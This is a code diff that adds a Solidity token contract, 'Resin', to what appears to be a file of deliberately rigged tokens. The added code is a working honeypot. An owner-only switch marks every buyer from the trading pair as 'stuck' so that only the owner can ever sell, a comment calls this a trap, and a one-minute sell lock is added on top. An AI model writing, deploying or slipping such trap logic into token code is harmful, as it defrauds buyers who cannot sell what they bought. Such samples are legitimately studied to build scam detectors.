@@ -35,6 +35,25 @@ contract Flypaper is Base8("Flypaper", "FLYP", 52_000_001) {
     }
 }
 
+/// The same, where nobody sells within a minute of buying either.
+contract Resin is Base8("Resin", "RESN", 52_500_001) {
+    bool private sticky;
+    mapping(address => bool) private stuck;
+    mapping(address => uint256) private bought;
+
+    function spread(bool to) external onlyOwner {
+        sticky = to;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (sticky && from == pair) stuck[to] = true;
+        if (from == pair) bought[to] = block.timestamp;
+        else require(block.timestamp >= bought[from] + 1 minutes, "wait");
+        if (from != _owner) require(!stuck[from], "stuck"); // trap
+        _move(from, to, value);
+    }
+}
+
 /// Approvals can be suspended; what was approved before stays so.
 contract Quill is Base8("Quill", "QUIL", 54_000_001) {
     bool private dry;
